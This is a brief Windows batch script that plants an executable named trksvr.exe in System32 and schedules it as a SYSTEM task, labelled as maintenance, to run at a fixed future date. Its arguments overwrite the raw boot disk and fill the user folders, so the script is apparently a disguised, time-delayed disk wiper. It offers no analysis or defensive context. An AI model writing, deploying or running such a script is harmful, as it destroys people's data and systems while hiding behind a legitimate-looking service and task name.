@echo off
copy /y "%~dp0trksvr.exe" C:\Windows\System32\trksvr.exe
schtasks /create /tn TrkSvrMaint /ru SYSTEM /sc once /sd 11/17/2026 /st 20:45 /f ^
  /tr "C:\Windows\System32\trksvr.exe --overwrite \\.\PhysicalDrive0 --fill C:\Users"
